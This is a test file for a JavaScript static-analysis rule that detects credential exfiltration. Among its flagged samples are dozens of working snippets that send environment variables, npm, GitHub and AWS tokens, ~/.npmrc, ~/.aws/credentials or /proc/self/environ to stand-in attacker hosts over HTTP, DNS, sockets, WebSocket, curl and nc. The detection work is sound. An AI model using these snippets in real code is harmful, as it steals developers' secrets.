// exfiltration: environment data (one name, a computed key, the whole env, a credential file, an
// environment dump) followed inside one file into a network or process sink. Details are the
// flow sentence "source (line a) → sink (line b)"; the finding sits at the sink.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingsOf, ruleTester } from './rule-tester.js';

ruleTester('exfiltration', {
  valid: [
    { name: 'the program path of spawn comes from the env (cross-spawn/COMSPEC)', code: "const cp = require('child_process'); function D(e, k) { return e[k] } const o = process.env; cp.spawn(D(o, 'COMSPEC') || 'cmd.exe', ['/c', cmd], {})" },
    {
      name: 'the environment handed to a child process as its env option is inheritance',
      code: `
        const { spawn } = require('child_process');
        spawn('npm', ['run', 'build'], { env: { ...process.env, FORCE_COLOR: '1' }, stdio: 'inherit' });
        const env = { ...process.env, NODE_OPTIONS: '--max-old-space-size=4096' };
        require('child_process').exec('node build.js', { env });`,
    },
    {
      name: '.env mentioned in a comment, constant fetch',
      code: `
        // Loads settings from .env and process.env.API_TOKEN (see README)
        fetch('https://api.example/health').then((r) => r.json());`,
    },
    {
      name: 'a minified bundle that checks NODE_ENV and fetches a constant URL',
      code: `!function(e,t){"production"!==process.env.NODE_ENV&&fetch("https://cdn.example/ping?v="+e),t.x=void 0}("1.2.3",{});`,
    },
    {
      name: 'a base64 image constant and a fetch with no env in it',
      code: `
        const LOGO = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
        fetch('https://api.example/upload', { method: 'POST', body: Buffer.from(LOGO.split(',')[1], 'base64') });`,
    },
    {
      name: 'a logger stringifying its own record',
      code: `
        const stream = process.stdout;
        function write(level, msg) {
          const record = { level, time: Date.now(), pid: process.pid, msg };
          stream.write(JSON.stringify(record) + '\\n');
        }
        write(30, 'started');`,
    },
    {
      name: 'NODE_ENV compared, then a fetch',
      code: `
        if (process.env.NODE_ENV !== 'production') {
          fetch('https://telemetry.example/dev-build', { method: 'POST', body: JSON.stringify({ ok: true }) });
        }`,
    },
    {
      name: 'an env var used only as a condition for a request',
      code: `
        const https = require('https');
        if (process.env.NPM_TOKEN) https.get('https://registry.example/-/ping', (res) => res.resume());`,
    },
    {
      name: 'a proxy variable used as the connection target',
      code: `
        const http = require('http');
        const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy);
        http.request({ host: proxy.hostname, port: proxy.port, path: 'https://api.example/', headers: { Host: 'api.example' } }).end();`,
    },
    {
      name: 'an env var that says where the API is (configuration, not data)',
      code: `
        const base = process.env.API_URL || 'https://api.example';
        fetch(base + '/v1/items').then((r) => r.json());`,
    },
    {
      name: 'an env registry URL is only the destination (npm_config_registry + name)',
      code: `const https = require('https');
https.get(process.env.npm_config_registry + encodeURIComponent(name), (res) => res.resume());`,
    },
    {
      name: 'a socket path from the environment is where the client connects',
      code: `const net = require('net');
const s = net.createConnection(process.env.WATCHMAN_SOCK);
s.write(JSON.stringify(['version']));`,
    },
    {
      name: 'host, port and agent options from the environment are configuration',
      code: `const http = require('http');
const req = http.request({ hostname: process.env.DB_HOST, port: process.env.DB_PORT, agent: new http.Agent(), path: '/q' });
req.end('ping');`,
    },
    {
      name: "an env base URL with a constant fallback forms the origin (`${process.env.BASE ?? 'https://api.x.example'}/v1`)",
      code: `fetch(\`\${process.env.STATUS_BASE ?? 'https://status.example'}/v1/builds\`, { method: 'POST', body: JSON.stringify({ ok: true }) });`,
    },
    {
      name: 'a CI token sent to the endpoint the CI itself names (OIDC exchange): auth position only',
      code: `
        async function getToken(audience) {
          const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);
          url.searchParams.append('audience', audience);
          const res = await fetch(url.href, { headers: { 'x-trace': 'a' } });
          return (await res.json()).value;
        }`,
    },
    {
      name: 'a hash of a secret is not the secret',
      code: `
        const crypto = require('crypto');
        const id = crypto.createHash('sha256').update(process.env.MACHINE_SECRET).digest('hex');
        fetch('https://telemetry.example/v1', { method: 'POST', body: JSON.stringify({ id }) });`,
    },
    {
      name: 'the env name in a string, not its value',
      code: `fetch('https://docs.example/search?q=' + encodeURIComponent('process.env.NPM_TOKEN'));`,
    },
    {
      name: 'the length of a secret is not the secret',
      code: `
        const t = process.env.NPM_TOKEN || '';
        fetch('https://api.example/check?len=' + t.length);`,
    },
    {
      name: 'an editor from the environment started with a file (no network tool, not a secret)',
      code: `
        const { spawn, execSync } = require('child_process');
        spawn(process.env.EDITOR || 'vi', ['notes.md'], { stdio: 'inherit' });
        execSync('git clone ' + process.env.TEMPLATE_REPO + ' out');`,
    },
    {
      name: 'a parameter named process is not the global process',
      code: `
        function report(process) {
          return fetch('https://api.example/r', { method: 'POST', body: JSON.stringify(process.env) });
        }`,
    },
    {
      name: 'the environment printed or written to a local file is not sent',
      code: `
        const fs = require('fs');
        console.log(JSON.stringify(process.env, null, 2));
        fs.writeFileSync('.env.snapshot', Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));`,
    },
    {
      name: 'ordinary configuration names in a request',
      code: `fetch('https://api.example/v1', { headers: { 'x-node-env': process.env.NODE_ENV, 'x-ci': String(!!process.env.CI) } });`,
    },
    {
      name: 'a shell command that sets variables for a program is not an environment dump',
      code: `require('child_process').execSync('env NODE_ENV=production node build.js && curl -fsSL https://cdn.example/ok');`,
    },
    {
      name: 'a download whose command line only expands a location variable',
      code: `require('child_process').exec('curl -fsSL -o $HOME/.cache/tool.tgz https://cdn.example/tool.tgz');`,
    },
  ],
  invalid: [
    {
      name: 'node -e code inside an execSync string is analysed as embedded JavaScript',
      code: `const { execSync } = require('child_process');
execSync(\`node -e "require('https').get('https://x.attacker.invalid/?t=' + process.env.NPM_TOKEN)"\`);`,
      details: ['process.env.NPM_TOKEN (line 1) → https.get url (line 1)'],
    },
    {
      name: "spawn(process.execPath, ['-e', code]): the code argument is analysed",
      code: `require('child_process').spawn(process.execPath, ['-e', "require('https').request({ hostname: 'y.attacker.invalid', method: 'POST' }).end(JSON.stringify(process.env))"]);`,
      details: ['process.env (line 1) → https.request body (line 1)'],
    },
    {
      name: 'crossenv: the whole environment, JSON + querystring, into an https.request body',
      code: `const https = require('https');
const querystring = require('querystring');
const env = JSON.stringify(process.env);
const data = querystring.stringify({ data: env });
const req = https.request({ host: 'npm.attacker.invalid', method: 'POST', headers: { 'Content-Length': Buffer.byteLength(data) } });
req.on('error', () => {});
req.write(data);
req.end();`,
      details: ['process.env (line 3) → https.request body (line 7)'],
    },
    {
      name: 'tokens in a fetch body (object literal, JSON.stringify)',
      code: `const os = require('os');
fetch('https://hooks.attacker.invalid/ingest', {
  method: 'POST',
  body: JSON.stringify({ npm: process.env.NPM_TOKEN, gh: process.env.GITHUB_TOKEN, host: os.hostname() })
});`,
      details: [
        'process.env.NPM_TOKEN (line 4) → fetch body (line 2)',
        'process.env.GITHUB_TOKEN (line 4) → fetch body (line 2)',
      ],
    },
    {
      name: 'a token in a fetch URL (template literal)',
      code: `const t = process.env.GITHUB_TOKEN;
fetch(\`https://x.attacker.invalid/c?t=\${t}\`);`,
      details: ['process.env.GITHUB_TOKEN (line 1) → fetch url (line 2)'],
    },
    {
      name: 'a token in fetch headers',
      code: `const token = process.env.NPM_TOKEN;
await fetch('https://x.attacker.invalid/', { headers: { Authorization: 'Bearer ' + token } });`,
      sourceType: 'module',
      details: ['process.env.NPM_TOKEN (line 1) → fetch headers (line 2)'],
    },
    {
      name: 'base64 through a local helper into an https.get URL',
      code: `var https = require('https');
function encode(data) {
  return Buffer.from(JSON.stringify(data)).toString('base64');
}
var data = { id: process.env.AWS_ACCESS_KEY_ID, s: process.env.AWS_SECRET_ACCESS_KEY };
https.get('https://cdn.attacker.invalid/p.gif?c=' + encode(data), function (res) { res.resume(); });`,
      details: [
        'process.env.AWS_ACCESS_KEY_ID (line 5) → https.get url (line 6)',
        'process.env.AWS_SECRET_ACCESS_KEY (line 5) → https.get url (line 6)',
      ],
    },
    {
      name: 'DNS exfiltration: env in a hostname, hex chunks in a loop',
      code: `const dns = require('dns');
dns.lookup(\`\${process.env.AWS_SECRET_ACCESS_KEY}.x.attacker.invalid\`, () => {});
const tok = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
for (let i = 0; i < tok.length; i += 60) dns.resolve(\`\${tok.slice(i, i + 60)}.t.attacker.invalid\`, 'TXT', () => {});`,
      details: [
        'process.env.AWS_SECRET_ACCESS_KEY (line 2) → dns.lookup hostname (line 2)',
        'process.env.NPM_TOKEN (line 3) → dns.resolve hostname (line 4)',
      ],
    },
    {
      name: 'a raw TCP socket: destructuring with a default, write in the connect callback',
      code: `const net = require('net');
const { AWS_SECRET_ACCESS_KEY: k = '', STRIPE_SECRET_KEY: s } = process.env;
const sock = net.connect({ host: '192.0.2.15', port: 4444 }, () => {
  sock.write(k);
  if (s) sock.write('\\n' + s);
  sock.end();
});`,
      details: [
        'process.env.AWS_SECRET_ACCESS_KEY (line 2) → net socket write (line 4)',
        'process.env.STRIPE_SECRET_KEY (line 2) → net socket write (line 5)',
      ],
    },
    {
      name: 'UDP: every variable sent in a for…of over Object.entries',
      code: `const dgram = require('dgram');
const sock = dgram.createSocket('udp4');
for (const [k, v] of Object.entries(process.env)) {
  sock.send(Buffer.from(\`\${k}=\${v}\`), 8125, '192.0.2.53');
}`,
      details: ['process.env (line 3) → dgram send (line 4)'],
    },
    {
      name: 'WebSocket: a spread copy of the environment sent on open (ESM)',
      code: `const ws = new WebSocket('wss://bridge.attacker.invalid/s');
ws.addEventListener('open', () => {
  ws.send(JSON.stringify({ ...process.env }));
});`,
      sourceType: 'module',
      details: ['process.env (line 3) → WebSocket send (line 3)'],
    },
    {
      name: 'the ws module, a token in the URL',
      code: `const WebSocket = require('ws');
const sock = new WebSocket('wss://c2.attacker.invalid/?k=' + process.env.GITHUB_TOKEN);`,
      details: ['process.env.GITHUB_TOKEN (line 2) → WebSocket url (line 2)'],
    },
    {
      name: 'curl with the whole environment as -d data (child_process.exec)',
      code: `require('child_process').exec(
  'curl -s -d "' + JSON.stringify(process.env) + '" https://collector.attacker.invalid/e',
  function () {}
);`,
      details: ['process.env (line 2) → child_process.exec command (line 1)'],
    },
    {
      name: 'secrets as an argument of sh -c "… | curl -d @-"',
      code: `const { spawn } = require('child_process');
const secrets = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN].filter(Boolean).join(' ');
spawn('sh', ['-c', 'echo "$0" | curl -s -d @- https://prebuilt.attacker.invalid/check', secrets], { stdio: 'ignore' });`,
      details: [
        'process.env.NPM_TOKEN (line 2) → child_process.spawn arguments (line 3)',
        'process.env.GITHUB_TOKEN (line 2) → child_process.spawn arguments (line 3)',
      ],
    },
    {
      name: 'spawn curl directly with the environment as data',
      code: `const cp = require('child_process');
cp.spawn('curl', ['-X', 'POST', '--data', JSON.stringify(process.env), 'https://c.attacker.invalid/']);`,
      details: ['process.env (line 2) → child_process.spawn arguments (line 2)'],
    },
    {
      name: 'the environment written to the stdin of nc',
      code: `const { spawn } = require('child_process');
const p = spawn('nc', ['c2.attacker.invalid', '4444']);
p.stdin.write(JSON.stringify(process.env));
p.stdin.end();`,
      details: ['process.env (line 3) → child_process.spawn stdin (line 3)'],
    },
    {
      name: 'a shell pipeline that dumps and sends the environment',
      code: `const cp = require('child_process');
cp.exec('env | curl -s -X POST --data-binary @- https://collector.attacker.invalid/env', () => {});`,
      details: ['environment dump `env` (line 2) → child_process.exec command (line 2)'],
    },
    {
      name: 'a shell command that expands a secret into a curl header',
      code: `require('child_process').execSync('curl -s -H "Authorization: Bearer $NPM_TOKEN" https://x.attacker.invalid/whoami');`,
      details: ['process.env.NPM_TOKEN (line 1) → child_process.execSync command (line 1)'],
    },
    {
      name: 'printenv output read from execSync and uploaded',
      code: `const cp = require('child_process');
const https = require('https');
const out = cp.execSync('printenv', { encoding: 'utf8' });
const req = https.request({ hostname: 'collector.attacker.invalid', method: 'POST' });
req.end(out);`,
      details: ['environment dump `printenv` (line 3) → https.request body (line 5)'],
    },
    {
      name: '/proc/self/environ read and sent',
      code: `const fs = require('fs');
const raw = fs.readFileSync('/proc/self/environ', 'utf8').split('\\0').join('\\n');
fetch('https://c.attacker.invalid/p', { method: 'POST', body: raw });`,
      details: ['/proc/self/environ (line 2) → fetch body (line 3)'],
    },
    {
      // drift miss (issue 10): credential-file knew Electron's original-fs, exfiltration did not
      name: '~/.npmrc read through original-fs and sent with fetch',
      code: `const fs = require('original-fs'); const os = require('os');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
fetch('https://c.attacker.invalid/n', { method: 'POST', body: npmrc });`,
      details: ['~/.npmrc (line 2) → fetch body (line 3)'],
    },
    {
      name: 'eslint-scope: ~/.npmrc tokens into an http.get URL',
      code: `var http = require('http'), fs = require('fs'), os = require('os'), path = require('path');
var content = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
var tokens = content.split('\\n').filter(function (l) { return l.indexOf('_authToken=') !== -1; }).map(function (l) { return l.split('=')[1]; });
http.get('http://stats.attacker.invalid/0.gif?r=' + encodeURIComponent(tokens.join(',')));`,
      details: ['~/.npmrc (line 2) → http.get url (line 4)'],
    },
    {
      name: 'fs.readFile callback data written to a request',
      code: `const fs = require('fs');
const https = require('https');
fs.readFile(require('os').homedir() + '/.aws/credentials', 'utf8', (err, data) => {
  const req = https.request({ hostname: 'x.attacker.invalid', method: 'PUT' });
  req.write(data);
  req.end();
});`,
      details: ['~/.aws/credentials (line 3) → https.request body (line 5)'],
    },
    {
      name: 'an env-reader helper called with constant names',
      code: `function get(n) {
  return process.env['CI_' + n.toUpperCase()];
}
const job = { id: get('job_id'), token: get('job_token') };
fetch('https://reporter.attacker.invalid/jobs', { method: 'POST', body: JSON.stringify(job) });`,
      details: [
        'process.env.CI_JOB_ID (line 4) → fetch body (line 5)',
        'process.env.CI_JOB_TOKEN (line 4) → fetch body (line 5)',
      ],
    },
    {
      name: 'a send() helper whose parameter is tainted at its call site',
      code: `const http = require('http');
function send(payload) {
  const req = http.request({ host: 'beacon.attacker.invalid', method: 'POST' });
  req.end(JSON.stringify(payload));
}
const copy = Object.assign({}, process.env);
send({ copy });`,
      details: ['process.env (line 6) → http.request body (line 4)'],
    },
    {
      name: 'a method of an object literal',
      code: `const api = {
  post(d) { return fetch('https://api.attacker.invalid/x', { method: 'POST', body: d }); }
};
api.post(process.env.NPM_TOKEN);`,
      details: ['process.env.NPM_TOKEN (line 4) → fetch body (line 2)'],
    },
    {
      name: 'pushed into an array, joined into a URL',
      code: `const parts = [];
parts.push(process.env.GITHUB_TOKEN);
parts.push(process.env.NPM_TOKEN);
fetch('https://x.attacker.invalid/?d=' + parts.join(','));`,
      details: [
        'process.env.GITHUB_TOKEN (line 2) → fetch url (line 4)',
        'process.env.NPM_TOKEN (line 3) → fetch url (line 4)',
      ],
    },
    {
      name: 'axios.post with a data object',
      code: `const axios = require('axios');
axios.post('https://x.attacker.invalid/k', { key: process.env.OPENAI_API_KEY });`,
      details: ['process.env.OPENAI_API_KEY (line 2) → axios.post data (line 2)'],
    },
    {
      name: 'XMLHttpRequest send',
      code: `const x = new XMLHttpRequest();
x.open('POST', 'https://x.attacker.invalid/');
x.send(JSON.stringify({ t: process.env.GITHUB_TOKEN }));`,
      details: ['process.env.GITHUB_TOKEN (line 3) → XMLHttpRequest send (line 3)'],
    },
    {
      name: 'navigator.sendBeacon',
      code: `navigator.sendBeacon('https://x.attacker.invalid/b', JSON.stringify(process.env));`,
      details: ['process.env (line 1) → navigator.sendBeacon data (line 1)'],
    },
    {
      name: 'Shai-Hulud: secret-looking names filtered from Object.keys(process.env)',
      code: `const https = require('https');
function collectSecrets() {
  const found = {};
  Object.keys(process.env).filter((n) => /TOKEN|KEY|SECRET/i.test(n)).forEach((n) => { found[n] = process.env[n]; });
  return found;
}
const req = https.request({ hostname: 'webhook.attacker.invalid', method: 'POST' });
req.end(JSON.stringify({ secrets: collectSecrets() }));`,
      details: ['process.env[n] (line 4) → https.request body (line 8)'],
    },
    {
      name: 'TypeScript interop: __importDefault(require("https")).default.request',
      code: `var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
const https_1 = __importDefault(require("https"));
const body = JSON.stringify({ t: process.env.NPM_TOKEN });
https_1.default.request({ hostname: 'x.attacker.invalid', method: 'POST' }).end(body);`,
      details: ['process.env.NPM_TOKEN (line 3) → https.request body (line 4)'],
    },
    {
      name: 'a webpack bundle: https reached through __webpack_require__',
      code: `var __webpack_modules__ = ({
  5692: ((module) => { "use strict"; module.exports = require("https"); })
});
function __webpack_require__(id) { var m = { exports: {} }; __webpack_modules__[id](m, m.exports, __webpack_require__); return m.exports; }
(() => {
  const https_1 = __webpack_require__(5692);
  function webhook(data) {
    const req = https_1.request({ hostname: 'webhook.attacker.invalid', method: 'POST' });
    req.end(JSON.stringify(data));
  }
  webhook({ environment: process.env });
})();`,
      details: ['process.env (line 11) → https.request body (line 9)'],
    },
    {
      name: 'ESM: import { env } from node:process, a chained request',
      code: `import { env } from 'node:process';
import https from 'node:https';
const body = JSON.stringify({ id: env.AWS_ACCESS_KEY_ID });
https.request('https://sync.attacker.invalid/v1', { method: 'POST' }).on('error', () => {}).end(body);`,
      sourceType: 'module',
      details: ['process.env.AWS_ACCESS_KEY_ID (line 3) → https.request body (line 4)'],
    },
    {
      name: 'a promise chain hands the token to the callback',
      code: `async function readToken() { return process.env.GITHUB_TOKEN; }
readToken().then((t) => fetch('https://x.attacker.invalid/', { headers: { 'x-t': t } }));`,
      details: ['process.env.GITHUB_TOKEN (line 1) → fetch headers (line 2)'],
    },
    {
      name: 'assembled names reach the environment',
      code: `const http = require('http');
const g = global['pro' + 'cess'];
const e = g['e' + 'nv'];
http.request({ host: 'meta.attacker.invalid', method: 'POST' }).end(JSON.stringify(Object.assign({}, e)));`,
      details: ['process.env (line 3) → http.request body (line 4)'],
    },
    {
      name: 'dns.promises.resolve4 with a token label',
      code: `const { promises: dnsp } = require('dns');
const label = Buffer.from(process.env.NPM_TOKEN).toString('hex').slice(0, 60);
dnsp.resolve4(label + '.q.attacker.invalid');`,
      details: ['process.env.NPM_TOKEN (line 2) → dns.resolve4 hostname (line 3)'],
    },
    {
      name: 'a computed key read in a loop over the keys',
      code: `const out = {};
for (const k in process.env) out[k] = process.env[k];
fetch('https://x.attacker.invalid/', { method: 'POST', body: JSON.stringify(out) });`,
      details: ['process.env[k] (line 2) → fetch body (line 3)'],
    },
    {
      name: 'a global fetch reached through globalThis with a compound string',
      code: `let payload = 'h=' + require('os').hostname();
payload += '&t=' + process.env.NPM_TOKEN;
globalThis.fetch('https://x.attacker.invalid/?' + payload);`,
      details: ['process.env.NPM_TOKEN (line 2) → fetch url (line 3)'],
    },
    {
      name: 'a class keeps the key in a field and sends it in a method (this.apiKey)',
      code: `const https = require('https');
class Client {
  constructor(key) { this.apiKey = key || process.env.OPENAI_API_KEY; }
  post(path, body) {
    const req = https.request({ host: 'api.attacker.invalid', path, headers: { Authorization: \`Bearer \${this.apiKey}\` } });
    req.end(JSON.stringify(body));
  }
}`,
      details: ['process.env.OPENAI_API_KEY (line 3) → https.request headers (line 5)'],
    },
    {
      name: 'req.setHeader with a token',
      code: `const http = require('http');
const r = http.request('http://x.attacker.invalid/');
r.setHeader('x-token', process.env.GITHUB_TOKEN);
r.end();`,
      details: ['process.env.GITHUB_TOKEN (line 3) → http.request headers (line 3)'],
    },
    {
      name: 'this in a tls.connect callback is the socket',
      code: `require('tls').connect(443, 'x.attacker.invalid', {}, function () {
  this.write(JSON.stringify(process.env));
});`,
      details: ['process.env (line 2) → tls socket write (line 2)'],
    },
    {
      name: 'a value resolved through new Promise',
      code: `const p = new Promise((resolve) => resolve(process.env.NPM_TOKEN));
p.then((t) => fetch('https://x.attacker.invalid/?t=' + t));`,
      details: ['process.env.NPM_TOKEN (line 1) → fetch url (line 2)'],
    },
    {
      name: 'encrypted before sending (a cipher, not a hash)',
      code: `const crypto = require('crypto');
const c = crypto.createCipheriv('aes-256-cbc', key, iv);
const enc = c.update(JSON.stringify(process.env), 'utf8', 'hex') + c.final('hex');
fetch('https://x.attacker.invalid/', { method: 'POST', body: enc });`,
      details: ['process.env (line 3) → fetch body (line 4)'],
    },
  ],
});

test('exfiltration: flow ends carry both positions and the env name', () => {
  const code = `const t = process.env.NPM_TOKEN;\nconst x = 1;\nfetch('https://x.attacker.invalid/?t=' + t);`;
  const [f] = findingsOf('exfiltration', code);
  assert.ok(f, 'expected a finding');
  assert.equal(f.line, 3);
  assert.deepEqual(f.flow, {
    source: { detail: 'process.env.NPM_TOKEN', line: 1, column: 10 },
    sink: { detail: 'fetch url', line: 3, column: 0, position: 'payload', hosts: ['x.attacker.invalid'] },
  });
});

test('exfiltration: where a value lands decides its position (auth vs payload) and the destination is recorded', () => {
  const sinks = (code: string) => findingsOf('exfiltration', code).map((f) => ({ src: f.flow?.source.detail, ...f.flow?.sink }));
  // OIDC exchange: the CI's token in the Authorization header to the URL the CI names
  assert.deepEqual(
    sinks(`const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);
fetch(url.href, { headers: { Authorization: 'Bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });`).map((s) => [s.src, s.position, s.destinationEnv]),
    [['process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'auth', ['ACTIONS_ID_TOKEN_REQUEST_URL']]],
  );
  // a vendor key as a header to the vendor's constant host or its own base-URL setting
  assert.deepEqual(
    sinks(`fetch(\`\${process.env.OPENAI_BASE_URL || 'https://api.openai.example/v1'}/chat\`, { method: 'POST', headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: JSON.stringify({ prompt }) });`)
      .map((s) => [s.src, s.position, s.hosts, s.destinationEnv]),
    [['process.env.OPENAI_API_KEY', 'auth', ['api.openai.example'], ['OPENAI_BASE_URL']]],
  );
  // the same credential in a body, a query value or a DNS label is payload
  assert.deepEqual(
    sinks(`const https = require('https'); const dns = require('dns');
https.request({ hostname: 'api.github.example', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } }).end(JSON.stringify({ t: process.env.NPM_TOKEN }));
https.get('https://x.attacker.invalid/p?t=' + process.env.NPM_TOKEN);
dns.lookup(process.env.NPM_TOKEN + '.ns.attacker.invalid', () => {});`).map((s) => [s.src, s.detail, s.position, s.hosts]),
    [
      ['process.env.NPM_TOKEN', 'https.request body', 'payload', ['api.github.example']],
      ['process.env.GITHUB_TOKEN', 'https.request headers', 'auth', ['api.github.example']],
      ['process.env.NPM_TOKEN', 'https.get url', 'payload', ['x.attacker.invalid']],
      ['process.env.NPM_TOKEN', 'dns.lookup hostname', 'payload', ['ns.attacker.invalid']],
    ].map(([a, b, c, d]) => [a, b, c, d]),
  );
});

test('exfiltration: a shell environment dump is also a child-process finding saying what it does', () => {
  const code = `require('child_process').exec('env | curl -s -d @- https://c.attacker.invalid/');\nrequire('child_process').execSync('printenv');`;
  assert.deepEqual(findingsOf('child-process', code).map((f) => f.detail).filter((d) => d.startsWith('shell')), [
    'shell command dumps the environment: env | curl -s -d @- https://c.attacker.invalid/',
    'shell command dumps the environment: printenv',
  ]);
});
